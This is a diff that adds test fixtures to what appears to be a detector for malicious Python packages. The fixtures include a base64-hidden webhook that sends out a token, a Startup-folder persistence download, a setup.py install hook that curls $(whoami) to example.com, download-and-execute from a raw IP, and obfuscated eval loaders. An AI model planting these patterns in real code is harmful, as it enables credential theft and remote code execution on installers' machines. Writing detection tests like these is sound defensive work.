@@ -317,6 +317,92 @@ CASES: list[tuple[str, dict[str, str], str, str]] = [
         "malicious",
     ),
     (
+        "webhook address hidden in base64",
+        {
+            "demo/bot.py": (
+                "import base64, requests\n"
+                "def report(token):\n"
+                f"    hook = base64.b64decode('{b64(HOOK)}').decode()\n"
+                "    requests.post(hook, json={'content': token})\n"
+            )
+        },
+        "exfil-hidden-endpoint",
+        "malicious",
+    ),
+    (
+        "download copied into the Startup folder",
+        {
+            "demo/run.py": (
+                "import os, requests\n"
+                "def setup_autorun():\n"
+                "    d = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu',"
+                " 'Programs', 'Startup')\n"
+                "    with open(os.path.join(d, 'svc.pyw'), 'wb') as f:\n"
+                "        f.write(requests.get('https://example.com/svc.pyw').content)\n"
+            )
+        },
+        "persistence-download",
+        "malicious",
+    ),
+    (
+        "curl posting $(whoami) from an install helper module",
+        {
+            "pre_install.py": (
+                "import subprocess\n"
+                "def pre_install():\n"
+                "    subprocess.run('curl -X POST -H \"u: $(whoami)\" https://example.com/c',"
+                " shell=True)\n"
+            ),
+            "setup.py": setup_py(
+                "from pre_install import pre_install\npre_install()", cmdclass=True
+            ),
+        },
+        "shell-exfil",
+        "malicious",
+    ),
+    (
+        "downloaded file run through a path glued to a variable",
+        {
+            "demo/fetch.py": (
+                "import os, requests\n"
+                "def go():\n"
+                "    for name in requests.get('http://93.184.216.34/list').text.split():\n"
+                "        data = requests.get('http://93.184.216.34/' + name).content\n"
+                "        open(name, 'wb').write(data)\n"
+                "        os.system(f'./{name} &')\n"
+            )
+        },
+        "download-execute-untrusted",
+        "malicious",
+    ),
+    (
+        "PyArmor-protected setup.py",
+        {
+            "setup.py": (
+                "from pyarmor_runtime_000000 import __pyarmor__\n"
+                "__pyarmor__(__name__, __file__, b'PY000000" + "\\x00" * 40 + "')\n"
+            )
+        },
+        "protected-install-code",
+        "malicious",
+    ),
+    (
+        "packed module: eval kept in a container, computed import, big encoded literal",
+        {
+            "demo/__init__.py": (
+                "class K:\n"
+                "    def __init__(self, data):\n"
+                "        self.t = ['b', 'a', 's', 'e', '6', '4']\n"
+                "        run, m = eval, __import__(self.t[0] + self.t[1] + self.t[2] + self.t[3]"
+                " + self.t[4] + self.t[5])\n"
+                "        run(m.b64decode(data))\n"
+                "K('" + base64.b64encode(bytes(range(256)) * 40).decode() + "')\n"
+            )
+        },
+        "packed-code-exec",
+        "malicious",
+    ),
+    (
         "code hidden off-screen",
         {"demo/__init__.py": "x = 1" + " " * 200 + ";import os\n"},
         "hidden-code",
